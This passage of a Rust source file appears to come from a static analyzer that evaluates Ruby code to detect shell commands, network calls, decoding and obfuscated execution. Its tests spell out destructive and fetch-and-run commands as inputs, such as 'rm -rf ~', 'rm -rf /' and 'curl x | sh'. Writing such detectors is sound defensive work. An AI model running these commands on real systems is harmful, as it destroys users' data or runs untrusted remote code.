            "Net::Telnet" => "telnet://",
            "Net::POP3" => "pop3://",
            _ => "http://",
        };
        let host = match target {
            Obj::Uri(u) | Obj::Addr(u) => return u,
            other => other.val(),
        };
        let Val::Known(host) = host else { return host };
        if host.contains("://") {
            return Val::Known(host);
        }
        let rest = if args.pos.len() < 2 {
            Val::known("")
        } else {
            match (module, method, self.arg(args, 1).val()) {
                ("Net::HTTP", "get" | "get_response" | "get_print", path) => path,
                (_, _, Val::Known(port)) => Val::Known(format!(":{port}")),
                _ => Val::Unknown,
            }
        };
        Val::Known(format!("{scheme}{host}")).concat(rest)
    }

    /// The value of argument `n`, `*list` spread into its first item.
    fn arg(&mut self, args: &Args<'t>, n: usize) -> Obj {
        match args.pos.get(n) {
            Some(node) if node.kind() == "splat_argument" => match node.named_child(0) {
                Some(inner) => self.eval(inner, 0),
                None => Obj::Val(Val::Unknown),
            },
            Some(node) => self.eval(*node, 0),
            None => Obj::Val(Val::Unknown),
        }
    }

    /// What `node` evaluates to.
    fn eval(&mut self, node: Node<'t>, depth: usize) -> Obj {
        // Arguments are evaluated afresh (`depth` 0), so calls nested without brackets
        // (`format format format ...`) are bounded here.
        if depth > MAX_NESTING || self.nest > MAX_NESTING || !self.cx.step(self.line(node)) {
            return Obj::Val(Val::Unknown);
        }
        self.nest += 1;
        let out = self.eval_node(node, depth);
        self.nest -= 1;
        out
    }

    fn eval_node(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let d = depth + 1;
        match node.kind() {
            "string" | "chained_string" | "delimited_symbol" | "bare_string" | "bare_symbol"
            | "heredoc_beginning" => Obj::Val(self.string(node, d)),
            "simple_symbol" => Obj::Val(Val::known(self.text(node).trim_start_matches(':'))),
            "hash_key_symbol" => Obj::Val(Val::known(self.text(node))),
            "character" => {
                let t = self.text(node).get(1..).unwrap_or_default();
                Obj::Val(Val::Known(unescape(t, true)))
            }
            "integer" => Obj::Val(
                parse_int(self.text(node)).map_or(Val::Unknown, |n| Val::Known(n.to_string())),
            ),
            "float" => Obj::Val(Val::known(self.text(node))),
            "true" => Obj::Val(Val::known("true")),
            "false" => Obj::Val(Val::known("false")),
            "unary" => match (
                node.child_by_field_name("operator"),
                node.child_by_field_name("operand"),
            ) {
                (Some(op), Some(v)) if self.text(op) == "-" => match self.eval(v, d).val() {
                    Val::Known(n) if n.parse::<i64>().is_ok() => {
                        Obj::Val(Val::Known(format!("-{n}")))
                    }
                    _ => Obj::Val(Val::Unknown),
                },
                _ => Obj::Val(Val::Unknown),
            },
            "array" | "string_array" | "symbol_array" | "right_assignment_list" => {
                let mut items = Vec::new();
                let mut c = node.walk();
                let children: Vec<Node<'t>> = node.named_children(&mut c).collect();
                for item in children {
                    match (item.kind(), item.named_child(0)) {
                        ("splat_argument", Some(inner)) => match self.eval(inner, d) {
                            Obj::List(more) => items.extend(more),
                            _ => items.push(Val::Unknown),
                        },
                        _ => items.push(self.eval(item, d).val()),
                    }
                }
                Obj::List(items)
            }
            "splat_argument" => node
                .named_child(0)
                .map_or(Obj::Val(Val::Unknown), |n| self.eval(n, d)),
            "parenthesized_statements" => {
                let last = node.named_child(node.named_child_count().saturating_sub(1) as u32);
                last.map_or(Obj::Val(Val::Unknown), |n| self.eval(n, d))
            }
            "identifier" | "instance_variable" | "global_variable" | "class_variable" => {
                self.name(node, d)
            }
            "constant" => match self.names.get(self.text(node)) {
                Some(_) => self.name(node, d),
                None => Obj::Const(self.text(node).to_owned()),
            },
            "scope_resolution" => {
                let name = node
                    .child_by_field_name("name")
                    .map_or("", |n| self.text(n));
                match node.child_by_field_name("scope").map(|s| self.eval(s, d)) {
                    None => Obj::Const(name.to_owned()),
                    Some(Obj::Const(scope)) => Obj::Const(format!("{scope}::{name}")),
                    Some(_) => Obj::Val(Val::Unknown),
                }
            }
            "self" => Obj::Const("Kernel".into()),
            "binary" => self.binary(node, d),
            "conditional" => {
                let (a, b) = (
                    node.child_by_field_name("consequence"),
                    node.child_by_field_name("alternative"),
                );
                match (a, b) {
                    (Some(a), Some(b)) => {
                        let (a, b) = (self.eval(a, d).val(), self.eval(b, d).val());
                        Obj::Val(if a == b { a } else { Val::Unknown })
                    }
                    _ => Obj::Val(Val::Unknown),
                }
            }
            "call" => {
                let name = node
                    .child_by_field_name("method")
                    .map_or("call", |m| self.text(m));
                let receiver = node
                    .child_by_field_name("receiver")
                    .map(|r| self.eval(r, d));
                let args = Args::of(node);
                self.value(receiver, name, &args)
            }
            "element_reference" => {
                let object = node.child_by_field_name("object").map(|o| self.eval(o, d));
                let args = Args::of(node);
                self.value(object, "[]", &args)
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn name(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let name = self.text(node);
        match self.names.get(name).cloned() {
            Some(Slot::Expr(value)) => {
                // A name's value does not depend on where it is used: computed once.
                let out = match self.values.get(name) {
                    Some(out) => out.clone(),
                    None if !self.names.enter(name) => return Obj::Val(Val::Unknown),
                    None => {
                        let out = self.eval(value, depth + 1);
                        self.names.leave();
                        self.values.insert(name, out.clone());
                        out
                    }
                };
                match out {
                    Obj::Const(_) | Obj::Method(_) | Obj::Response => out,
                    _ if self.untrusted => Obj::Val(Val::Unknown),
                    _ => out,
                }
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn binary(&mut self, node: Node<'t>, depth: usize) -> Obj {
        let (Some(l), Some(op), Some(r)) = (
            node.child_by_field_name("left"),
            node.child_by_field_name("operator"),
            node.child_by_field_name("right"),
        ) else {
            return Obj::Val(Val::Unknown);
        };
        let op = self.text(op);
        if !matches!(op, "+" | "*" | "%" | "/") || self.patched {
            return Obj::Val(Val::Unknown);
        }
        let (left, right) = (self.eval(l, depth), self.eval(r, depth));
        match (op, left, right) {
            ("+", Obj::List(a), Obj::List(b)) => Obj::List(a.into_iter().chain(b).collect()),
            ("+" | "/", Obj::Path(p), b) => Obj::Path(join(&[p, b.val()])),
            ("+", Obj::Val(a), b) => Obj::Val(a.concat(b.val())),
            ("%", Obj::Val(Val::Known(f)), args) => {
                let args = match args {
                    Obj::List(items) => items,
                    other => vec![other.val()],
                };
                Obj::Val(percent(&f, &args))
            }
            ("*", Obj::Val(Val::Known(s)), Obj::Val(Val::Known(n))) => match n.parse::<usize>() {
                Ok(n) if n.saturating_mul(s.len()) <= 4096 => Obj::Val(Val::Known(s.repeat(n))),
                _ => Obj::Val(Val::Unknown),
            },
            ("*", Obj::List(items), Obj::Val(Val::Known(sep))) => Obj::Val(joined(&items, &sep)),
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// The value method `name` of `receiver` returns, for the calls that compute strings,
    /// paths, modules and method objects.
    fn value(&mut self, receiver: Option<Obj>, name: &str, args: &Args<'t>) -> Obj {
        let unknown = Obj::Val(Val::Unknown);
        let arg = |rb: &mut Self, n: usize| rb.arg(args, n).val();
        // Decoders and network reads whatever the receiver.
        match (name, &receiver) {
            ("unpack" | "unpack1", _) => return Obj::Val(Val::Fetched),
            (_, Some(Obj::Response | Obj::Val(Val::Fetched))) => return Obj::Response,
            ("method" | "public_method" | "instance_method", _) => {
                let q = arg(self, 0)
                    .text()
                    .and_then(|m| self.qualify(receiver.as_ref(), m, true));
                return q.map_or(unknown, Obj::Method);
            }
            ("send" | "__send__" | "public_send", _) => {
                return match arg(self, 0) {
                    Val::Known(m) if self.nest <= MAX_NESTING => {
                        self.nest += 1;
                        let out = self.value(receiver, &m, &args.skip(1));
                        self.nest -= 1;
                        out
                    }
                    _ => unknown,
                };
            }
            _ => {}
        }
        match receiver {
            None => match name {
                "format" | "sprintf" => match arg(self, 0) {
                    Val::Known(f) => {
                        let rest = (1..args.pos.len())
                            .map(|n| arg(self, n))
                            .collect::<Vec<_>>();
                        Obj::Val(percent(&f, &rest))
                    }
                    _ => unknown,
                },
                "URI" => Obj::Uri(arg(self, 0)),
                "Pathname" => Obj::Path(arg(self, 0)),
                "String" => Obj::Val(arg(self, 0)),
                "open" if arg(self, 0).text().is_some_and(|u| u.contains("://")) => Obj::Response,
                _ => unknown,
            },
            Some(Obj::Const(c)) => {
                let q = format!("{}.{name}", canonical(&c));
                match q.as_str() {
                    "Dir.home" if args.pos.is_empty() && !self.env_written && !self.patched => {
                        Obj::Val(Val::known("~"))
                    }
                    "Dir.pwd" | "Dir.getwd" => Obj::Val(Val::known(".")),
                    "ENV.fetch" | "ENV.[]" => {
                        let name = arg(self, 0);
                        Obj::Val(self.env(name))
                    }
                    "File.join" if !self.patched => {
                        let mut parts = Vec::new();
                        for n in 0..args.pos.len() {
                            match self.arg(args, n) {
                                Obj::List(items) => parts.extend(items),
                                other => parts.push(other.val()),
                            }
                        }
                        Obj::Val(file_join(&parts))
                    }
                    "File.expand_path" | "File.absolute_path" | "File.realpath" | "File.path" => {
                        let (path, dir) = (arg(self, 0), args.pos.get(1).map(|_| arg(self, 1)));
                        Obj::Val(expand(path, dir, q != "File.expand_path"))
                    }
                    "URI.parse" | "Kernel.URI" => Obj::Uri(arg(self, 0)),
                    "Pathname.new" => Obj::Path(arg(self, 0)),
                    "Pathname.pwd" | "Pathname.getwd" => Obj::Path(Val::known(".")),
                    "String.new" => Obj::Val(arg(self, 0)),
                    "Kernel.format" | "Kernel.sprintf" => self.value(None, name, args),
                    "Addrinfo.tcp" | "Socket.sockaddr_in" | "Socket.pack_sockaddr_in" => {
                        let (a, b) = (arg(self, 0), arg(self, 1));
                        let (host, port) = if q.starts_with("Addrinfo") {
                            (a, b)
                        } else {
                            (b, a)
                        };
                        Obj::Addr(match (host, port) {
                            (Val::Known(h), Val::Known(p)) => Val::Known(format!("tcp://{h}:{p}")),
                            _ => Val::Unknown,
                        })
                    }
                    _ if name == "const_get" => match arg(self, 0) {
                        Val::Known(m) => Obj::Const(m.trim_start_matches("::").to_owned()),
                        _ => unknown,
                    },
                    _ if is_decoder(&q) => Obj::Val(Val::Fetched),
                    "Kernel.open" => self.value(None, name, args),
                    _ if is_network(&q) => Obj::Response,
                    _ => unknown,
                }
            }
            Some(Obj::Path(p)) => match name {
                "join" | "+" | "/" | "expand_path" => {
                    let mut parts = vec![p];
                    parts.extend((0..args.pos.len()).map(|n| arg(self, n)));
                    Obj::Path(join(&parts))
                }
                "to_s" | "to_path" | "realpath" | "cleanpath" => Obj::Val(p),
                _ => unknown,
            },
            Some(Obj::Uri(u)) => match name {
                "to_s" => Obj::Val(u),
                "open" | "read" => Obj::Response,
                _ => unknown,
            },
            Some(Obj::Method(q)) => match name {
                "to_proc" | "unbind" | "bind" => Obj::Method(q),
                _ => unknown,
            },
            _ if self.patched => unknown,
            Some(Obj::Val(Val::Known(s))) => self.string_method(s, name, args),
            Some(Obj::List(items)) => self.list_method(items, name, args),
            _ => unknown,
        }
    }

    fn string_method(&mut self, s: String, name: &str, args: &Args<'t>) -> Obj {
        let arg = |rb: &mut Self, n: usize| rb.arg(args, n).val();
        let v = |t: String| Obj::Val(Val::Known(t));
        match (name, args.pos.len()) {
            (
                "to_s" | "to_str" | "to_sym" | "intern" | "itself" | "freeze" | "dup" | "clone"
                | "b" | "scrub" | "-@" | "+@" | "to_path",
                0,
            ) => v(s),
            ("reverse", 0) => v(s.chars().rev().collect()),
            ("upcase", 0) => v(s.to_uppercase()),
            ("downcase", 0) => v(s.to_lowercase()),
            ("strip", 0) => v(s.trim().to_owned()),
            ("lstrip", 0) => v(s.trim_start().to_owned()),
            ("rstrip", 0) => v(s.trim_end().to_owned()),
            ("chomp", 0) => v(s.strip_suffix('\n').unwrap_or(&s).to_owned()),
            ("chr", 0) => match s.parse::<u32>() {
                Ok(n) => char::from_u32(n).map_or(Obj::Val(Val::Unknown), |c| v(c.to_string())),
                Err(_) => v(s.chars().next().map(String::from).unwrap_or_default()),
            },
            ("ord", 0) => s
                .chars()
                .next()
                .map_or(Obj::Val(Val::Unknown), |c| v((c as u32).to_string())),
            ("chars", 0) => Obj::List(s.chars().map(|c| Val::Known(c.to_string())).collect()),
            ("split", 0) => Obj::List(s.split_whitespace().map(Val::known).collect()),
            ("split", 1) => match self.arg(args, 0) {
                Obj::Val(Val::Known(sep))
                    if !sep.is_empty() && args.pos.first().is_some_and(|n| n.kind() != "regex") =>
                {
                    Obj::List(s.split(sep.as_str()).map(Val::known).collect())
                }
                _ => Obj::Val(Val::Unknown),
            },
            ("concat" | "+", _) => {
                let mut out = Val::Known(s);
                for n in 0..args.pos.len() {
                    out = out.concat(arg(self, n));
                }
                Obj::Val(out)
            }
            ("prepend", 1) => Obj::Val(arg(self, 0).concat(Val::Known(s))),
            ("sub" | "gsub" | "tr" | "delete", _) => {
                let literal = args.pos.first().is_some_and(|n| n.kind() != "regex");
                match (arg(self, 0), arg(self, 1)) {
                    (Val::Known(a), Val::Known(b))
                        if literal && !a.is_empty() && !b.contains('\\') =>
                    {
                        match name {
                            "sub" => v(s.replacen(&a, &b, 1)),
                            "gsub" => v(s.replace(&a, &b)),
                            _ => tr(&s, &a, &b).map_or(Obj::Val(Val::Unknown), v),
                        }
                    }
                    (Val::Known(a), _) if name == "delete" && args.pos.len() == 1 => {
                        tr(&s, &a, "").map_or(Obj::Val(Val::Unknown), v)
                    }
                    _ => Obj::Val(Val::Unknown),
                }
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    fn list_method(&mut self, items: Vec<Val>, name: &str, args: &Args<'t>) -> Obj {
        let arg = |rb: &mut Self, n: usize| rb.arg(args, n).val();
        match name {
            "join" => match (args.pos.len(), arg(self, 0)) {
                (0, _) => Obj::Val(joined(&items, "")),
                (_, Val::Known(sep)) => Obj::Val(joined(&items, &sep)),
                _ => Obj::Val(Val::Unknown),
            },
            "reverse" => Obj::List(items.into_iter().rev().collect()),
            "to_a" | "dup" | "flatten" | "compact" | "freeze" => Obj::List(items),
            "first" if args.pos.is_empty() => {
                Obj::Val(items.into_iter().next().unwrap_or(Val::Unknown))
            }
            "last" if args.pos.is_empty() => {
                Obj::Val(items.into_iter().last().unwrap_or(Val::Unknown))
            }
            "[]" | "at" | "fetch" => {
                match arg(self, 0).text().and_then(|i| i.parse::<i64>().ok()) {
                    Some(i) => {
                        let at = if i < 0 {
                            items.len().checked_sub(i.unsigned_abs() as usize)
                        } else {
                            Some(i as usize)
                        };
                        Obj::Val(
                            at.and_then(|i| items.get(i).cloned())
                                .unwrap_or(Val::Unknown),
                        )
                    }
                    None => Obj::Val(Val::Unknown),
                }
            }
            "pack" => match arg(self, 0).text() {
                Some("c*" | "C*" | "U*") => {
                    let chars: Option<String> = items
                        .iter()
                        .map(|i| {
                            i.text()
                                .and_then(|t| t.parse::<u32>().ok())
                                .and_then(char::from_u32)
                        })
                        .collect();
                    Obj::Val(chars.map_or(Val::Unknown, Val::Known))
                }
                _ => Obj::Val(Val::Fetched),
            },
            // `map(&:chr)`, `inject(:+)`, `sum('')`
            "map" | "collect" | "inject" | "reduce" | "sum" => {
                let method = match args.block.and_then(|b| b.named_child(0)) {
                    Some(b) => self.eval(b, 0).val(),
                    None => arg(self, 0),
                };
                match (name, method) {
                    ("inject" | "reduce", Val::Known(m)) if m == "+" => {
                        Obj::Val(joined(&items, ""))
                    }
                    ("sum", Val::Known(m)) if m.is_empty() => Obj::Val(joined(&items, "")),
                    ("map" | "collect", Val::Known(m)) if args.block.is_some() => {
                        let mut out = Vec::new();
                        for item in items {
                            out.push(match item {
                                Val::Known(s) => self.string_method(s, &m, &Args::default()).val(),
                                other => other,
                            });
                        }
                        Obj::List(out)
                    }
                    _ => Obj::Val(Val::Unknown),
                }
            }
            _ => Obj::Val(Val::Unknown),
        }
    }

    /// A string literal's value: escapes decoded (unless single-quoted), `#{}` parts evaluated.
    fn string(&mut self, node: Node<'t>, depth: usize) -> Val {
        if depth > MAX_NESTING {
            return Val::Unknown;
        }
        if node.kind() == "heredoc_beginning" {
            let opening = self.text(node);
            let quote = if opening.contains('\'') {
                Quote::Verbatim
            } else {
                Quote::Double
            };
            let squiggly = opening.starts_with("<<~");
            let Some(body) = self.heredocs.get(&node.start_byte()).copied() else {
                return Val::Unknown;
            };
            // The body runs from the end of the opening line to the terminator's line.
            return match self.parts(body, quote, depth) {
                Val::Known(t) => {
                    let t = t.strip_prefix('\n').unwrap_or(&t);
                    let t = t
                        .rfind('\n')
                        .map_or("", |at| t.get(..=at).unwrap_or_default());
                    Val::Known(if squiggly { dedent(t) } else { t.to_owned() })
                }
                other => other,
            };
        }
        let opening = node
            .child(0)
            .filter(|c| !c.is_named())
            .map_or("", |c| self.text(c));
        let single = ["'", "%q", ":'", "%w", "%i"]
            .iter()
            .any(|q| opening.starts_with(q));
        self.parts(
            node,
            if single { Quote::Single } else { Quote::Double },
            depth,
        )
    }

    fn parts(&mut self, node: Node<'t>, quote: Quote, depth: usize) -> Val {
        let mut out = Val::known("");
        let mut c = node.walk();
        let parts: Vec<Node<'t>> = node.named_children(&mut c).collect();
        for part in parts {
            let text = self.text(part);
            let v = match (part.kind(), quote) {
                ("string_content" | "heredoc_content", Quote::Single) => Val::Known(unquote(text)),
                ("string_content" | "heredoc_content", _) => Val::known(text),
                ("escape_sequence", _) => Val::Known(unescape(text, false)),
                ("interpolation", _) => match part.named_child(0) {
                    Some(e) => self.eval(e, depth + 1).val(),
                    None => Val::known(""),
                },
                ("string" | "bare_string" | "bare_symbol", _) => self.string(part, depth + 1),
                _ => Val::known(""),
            };
            out = out.concat(v);
        }
        out
    }

    /// `ENV[name]`: only the home directory is known.
    fn env(&self, name: Val) -> Val {
        match name.text() {
            Some("HOME") if !self.env_written => Val::known("~"),
            _ => Val::Unknown,
        }
    }
}

#[derive(Clone, Copy)]
enum Quote {
    /// `"..."`: escapes and `#{}`.
    Double,
    /// `'...'`: only `\\` and `\'`.
    Single,
    /// `<<~'EOS'`: nothing.
    Verbatim,
}

/// A call's arguments, unevaluated.
#[derive(Clone, Default)]
struct Args<'t> {
    pos: Vec<Node<'t>>,
    keywords: Vec<Node<'t>>,
    block: Option<Node<'t>>,
    /// A `*list` or `**hash` whose items are not known, or arguments not known at all.
    splat: bool,
}

impl<'t> Args<'t> {
    fn of(call: Node<'t>) -> Args<'t> {
        let mut args = Args::default();
        let list = match call.kind() {
            "element_reference" => Some(call),
            _ => call.child_by_field_name("arguments"),
        };
        let Some(list) = list else { return args };
        let mut c = list.walk();
        for a in list.named_children(&mut c) {
            if call.kind() == "element_reference" && call.child_by_field_name("object") == Some(a) {
                continue;
            }
            match a.kind() {
                "pair" => args.keywords.push(a),
                "block_argument" => args.block = Some(a),
                "comment" => {}
                "splat_argument" | "hash_splat_argument" | "forward_argument" => {
                    args.splat = true;
                    args.pos.push(a);
                }
                _ => args.pos.push(a),
            }
        }
        args
    }

    /// Arguments not known (`each(&method(:system))`).
    fn unknown() -> Args<'t> {
        Args {
            splat: true,
            ..Args::default()
        }
    }

    fn skip(&self, n: usize) -> Args<'t> {
        Args {
            pos: self.pos.iter().skip(n).copied().collect(),
            ..self.clone()
        }
    }

    fn keyword(&self, rb: &mut Rb<'_, '_, 't>, name: &str) -> Option<Obj> {
        let pair = self.keywords.iter().find(|p| {
            p.child_by_field_name("key")
                .is_some_and(|k| rb.text(k).trim_matches([':', '"', '\'']) == name)
        })?;
        Some(rb.eval(pair.child_by_field_name("value")?, 0))
    }
}

/// The module names that are another name for the same module.
fn canonical(name: &str) -> String {
    let name = name.trim_start_matches("::");
    match name {
        "Object" | "BasicObject" | "Kernel" | "Module" | "Class" => "Kernel".into(),
        "FileUtils::Verbose" | "FileUtils::NoWrite" | "FileUtils::DryRun" => "FileUtils".into(),
        "OpenURI" | "Kernel::URI" => "URI".into(),
        "Psych" => "YAML".into(),
        _ => name.to_owned(),
    }
}

/// Whether `include`/`extend` of a module brings a call the reader follows without a
/// receiver (`include FileUtils; rm_rf x`).
fn is_module_call(q: &str) -> bool {
    let (module, _) = q.rsplit_once('.').unwrap_or(("", q));
    matches!(
        module,
        "FileUtils" | "Open3" | "Process" | "Base64" | "Fiddle" | "PTY"
    )
}

/// Calls that reach the network.
fn is_network(q: &str) -> bool {
    let (module, method) = q.rsplit_once('.').unwrap_or(("", q));
    match module {
        "Net::HTTP" => matches!(
            method,
            "get"
                | "get_response"
                | "get_print"
                | "post"
                | "post_form"
                | "start"
                | "new"
                | "put"
                | "patch"
        ),
        "TCPSocket" | "Net::FTP" | "Net::Telnet" => matches!(method, "new" | "open"),
        "Socket" => method == "tcp",
        "Net::SMTP" | "Net::SSH" | "Net::POP3" => matches!(method, "start" | "new"),
        "HTTParty" | "Faraday" | "RestClient" | "HTTP" | "Excon" | "Typhoeus" | "HTTPX" => {
            matches!(
                method,
                "get"
                    | "post"
                    | "put"
                    | "patch"
                    | "delete"
                    | "head"
                    | "request"
                    | "new"
                    | "execute"
            )
        }
        _ => q == "URI.open",
    }
}

/// Calls that decode data: running what they return runs what was hidden.
fn is_decoder(q: &str) -> bool {
    q.starts_with("Base64.") && q.contains("decode")
        || q.starts_with("Zlib")
        || matches!(q, "CGI.unescape" | "URI.decode_www_form_component")
}

/// Paths joined as `File.join` does: one `/` between parts.
fn file_join(parts: &[Val]) -> Val {
    let mut out = String::new();
    for (n, part) in parts.iter().enumerate() {
        let Some(p) = part.text() else {
            return part.clone().concat(Val::Unknown);
        };
        if n == 0 {
            out.push_str(p);
        } else {
            out.truncate(out.trim_end_matches('/').len());
            out.push('/');
            out.push_str(p.trim_start_matches('/'));
        }
    }
    Val::Known(out)
}

/// `File.expand_path(path, dir)`: `~` kept, a relative path put under `dir`.
fn expand(path: Val, dir: Option<Val>, plain: bool) -> Val {
    let Val::Known(p) = path else { return path };
    if p.starts_with('/') || (!plain && p.starts_with('~')) {
        return Val::Known(p);
    }
    match dir {
        Some(d) => file_join(&[expand(d, None, plain), Val::Known(p)]),
        None => Val::Known(p),
    }
}

/// A `<<~` heredoc's lines without the indentation they share.
fn dedent(text: &str) -> String {
    let indent = |l: &str| l.len() - l.trim_start_matches([' ', '\t']).len();
    let lines = text.split_inclusive('\n');
    let least = lines
        .clone()
        .filter(|l| !l.trim().is_empty())
        .map(indent)
        .min()
        .unwrap_or(0);
    lines
        .map(|l| l.get(least.min(indent(l))..).unwrap_or_default())
        .collect()
}

/// Items joined with `sep`, if all are known.
fn joined(items: &[Val], sep: &str) -> Val {
    let texts: Option<Vec<&str>> = items.iter().map(Val::text).collect();
    match texts {
        Some(t) => Val::Known(t.join(sep)),
        None if items.contains(&Val::Fetched) => Val::Fetched,
        None => Val::Unknown,
    }
}

/// `String#tr` with plain characters and `a-z` ranges (`^` negation not followed).
fn tr(s: &str, from: &str, to: &str) -> Option<String> {
    fn expand(set: &str) -> Option<Vec<char>> {
        let chars: Vec<char> = set.chars().collect();
        if chars.first() == Some(&'^') || chars.contains(&'\\') {
            return None;
        }
        let mut out = Vec::new();
        let mut i = 0;
        while let Some(&c) = chars.get(i) {
            match (chars.get(i + 1), chars.get(i + 2)) {
                (Some('-'), Some(&end)) if c <= end && (end as u32 - c as u32) < 1024 => {
                    out.extend((c as u32..=end as u32).filter_map(char::from_u32));
                    i += 3;
                }
                _ => {
                    out.push(c);
                    i += 1;
                }
            }
        }
        Some(out)
    }
    let (from, to) = (expand(from)?, expand(to)?);
    Some(
        s.chars()
            .filter_map(|c| match from.iter().position(|&f| f == c) {
                Some(_) if to.is_empty() => None,
                Some(i) => to.get(i).or(to.last()).copied(),
                None => Some(c),
            })
            .collect(),
    )
}

/// The Ruby code of an ERB template (`<% code %>`, `<%= expr %>`).
fn erb_code(template: &str) -> String {
    let mut out = Vec::new();
    for part in template.split("<%").skip(1) {
        let code = part.split("%>").next().unwrap_or_default();
        out.push(
            code.trim_start_matches(['=', '-', '#'])
                .trim_end_matches('-')
                .to_owned(),
        );
    }
    out.join("\n")
}

/// A file mode (`0755`, `0o755`, `493`) as `chmod` takes it; a symbolic one (`"u+x"`) as is.
fn octal(mode: Val) -> Val {
    match mode.text().map(|m| (m.parse::<u32>(), m)) {
        Some((Ok(n), _)) => Val::Known(format!("{n:o}")),
        Some((Err(_), m)) if !m.is_empty() && !m.starts_with('-') => Val::known(m),
        _ => Val::Unknown,
    }
}

/// An integer literal (`0755` is octal, `0x`, `0b`, `0o`, `0d`, `1_000`).
fn parse_int(text: &str) -> Option<i64> {
    let t = text.replace('_', "");
    let (digits, radix) = match t.get(..2).map(str::to_ascii_lowercase).as_deref() {
        Some("0x") => (t.get(2..).unwrap_or_default(), 16),
        Some("0b") => (t.get(2..).unwrap_or_default(), 2),
        Some("0o") => (t.get(2..).unwrap_or_default(), 8),
        Some("0d") => (t.get(2..).unwrap_or_default(), 10),
        _ if t.len() > 1 && t.starts_with('0') => (t.get(1..).unwrap_or_default(), 8),
        _ => (t.as_str(), 10),
    };
    i64::from_str_radix(digits, radix).ok()
}

/// `'%s %s' % [a, b]`: `%s`, `%d` and `%%` with known arguments.
fn percent(format: &str, args: &[Val]) -> Val {
    let mut out = String::new();
    let mut items = args.iter();
    let mut chars = format.chars();
    while let Some(c) = chars.next() {
        if c != '%' {
            out.push(c);
            continue;
        }
        match chars.next() {
            Some('%') => out.push('%'),
            Some('s' | 'd' | 'i' | 'p') => match items.next() {
                Some(Val::Known(t)) => out.push_str(t),
                Some(other) => return other.clone().concat(Val::Unknown),
                None => return Val::Unknown,
            },
            _ => return Val::Unknown,
        }
    }
    Val::Known(out)
}

/// A single-quoted string's content: only `\\` and `\'` are escapes.
fn unquote(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, chars.peek()) {
            ('\\', Some(&e @ ('\\' | '\''))) => {
                out.push(e);
                chars.next();
            }
            _ => out.push(c),
        }
    }
    out
}

/// One escape of a double-quoted string (`\n`, `\e`, `\s`, `\x41`, `\101`, `\u0041`,
/// `\u{41 42}`); `character` for a `?a` literal, which is the character itself otherwise.
fn unescape(text: &str, character: bool) -> String {
    let Some(rest) = text.strip_prefix('\\') else {
        return text.to_owned();
    };
    let mut chars = rest.chars();
    let Some(e) = chars.next() else {
        return "\\".into();
    };
    let tail = chars.as_str();
    let code = |digits: &str, radix| {
        u32::from_str_radix(digits, radix)
            .ok()
            .and_then(char::from_u32)
    };
    let one = |c: Option<char>| c.map(String::from).unwrap_or_default();
    match e {
        'n' => "\n".into(),
        't' => "\t".into(),
        'r' => "\r".into(),
        's' => " ".into(),
        'e' => "\x1b".into(),
        'a' => "\x07".into(),
        'b' => "\x08".into(),
        'f' => "\x0c".into(),
        'v' => "\x0b".into(),
        '0'..='7' => one(code(rest, 8)),
        'x' => one(code(tail, 16)),
        'u' if tail.starts_with('{') => tail
            .trim_matches(['{', '}'])
            .split_whitespace()
            .map(|d| one(code(d, 16)))
            .collect(),
        'u' => one(code(tail, 16)),
        '\n' if !character => String::new(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use crate::matcher::code::{Effect, Lang, Val, read};

    /// The effects found, written as shell words (`?` for a value not known).
    fn effects(code: &str) -> Vec<String> {
        let reading = read(Lang::Ruby, code);
        let words = |vals: &[Val]| {
            vals.iter()
                .map(|v| match v {
                    Val::Known(t) => t.clone(),
                    Val::Unknown => "?".into(),
                    Val::Fetched => "<fetched>".into(),
                })
                .collect::<Vec<_>>()
                .join(" ")
        };
        let mut out: Vec<String> = reading
            .found
            .iter()
            .map(|f| match &f.effect {
                Effect::Shell(v) => format!("sh -c {}", words(std::slice::from_ref(v))),
                Effect::Exec(argv) => format!("exec {}", words(argv)),
                Effect::Command(p, args) => format!("{p} {}", words(args)),
            })
            .collect();
        if let Some(u) = reading.opaque {
            out.push(format!("opaque: {} (line {})", u.reason, u.line));
        }
        out
    }

    fn check(cases: &[(&str, &[&str])]) {
        for (code, want) in cases {
            assert_eq!(effects(code), *want, "{code}");
        }
    }

    const COMPUTED: &str = "opaque: the code calls a method whose name is computed at run time";
    const BUILT: &str = "opaque: the code runs code built at run time (an eval of a value not known before it runs)";
    const DECODED: &str = "opaque: the code runs code it downloaded or decoded";

    #[test]
    fn commands_run_are_shell_lines_or_argument_vectors() {
        check(&[
            ("`rm -rf ~`", &["sh -c rm -rf ~"]),
            ("d = '~'; %x{rm -rf #{d}}", &["sh -c rm -rf ~"]),
            ("system('rm', '-rf', '/')", &["exec rm -rf /"]),
            (
                "system({'A' => '1'}, 'rm -rf ~', exception: true)",
                &["sh -c rm -rf ~"],
            ),
            ("Kernel.system 'curl x | sh'", &["sh -c curl x | sh"]),
            ("::Kernel::exec(*%w[rm -rf /])", &["exec rm -rf /"]),
            (
                "pid = Process.spawn({'X' => 'y'}, 'rm', '-rf', '/', chdir: '/')",
                &["exec rm -rf /"],
            ),
            (
                "IO.popen(['rm', '-rf', '/']) { |f| f.read }",
                &["exec rm -rf /"],
            ),
            ("IO.popen('rm -rf ~', 'r+')", &["sh -c rm -rf ~"]),
            (
                "require 'open3'; o, s = Open3.capture2('rm -rf ~')",
                &["sh -c rm -rf ~"],
            ),
            (
                "Open3.popen3('rm', '-rf', '/') do |i, o, e, t| end",
                &["exec rm -rf /"],
            ),
            ("open('|rm -rf ~').read", &["sh -c rm -rf ~"]),
            ("IO.read('|rm -rf ~')", &["sh -c rm -rf ~"]),
            ("system(['rm', 'argv0'], '-rf', '/')", &["exec rm -rf /"]),
            (
                "x = <<~EOS\n  rm -rf ~\nEOS\nsystem(x)",
                &["sh -c rm -rf ~\n"],
            ),
            ("Kernel.`('id')", &["sh -c id"]),
            (
                "IO.popen([{'A' => 'b'}, 'rm', '-rf', '/', err: :out])",
                &["exec rm -rf /"],
            ),
            ("<<~`CMD`\n  rm -rf ~\nCMD", &["sh -c rm -rf ~\n"]),
            (
                "IO.write('|sh', 'rm -rf ~')",
                &["sh -c rm -rf ~", "sh -c sh"],
            ),
            (
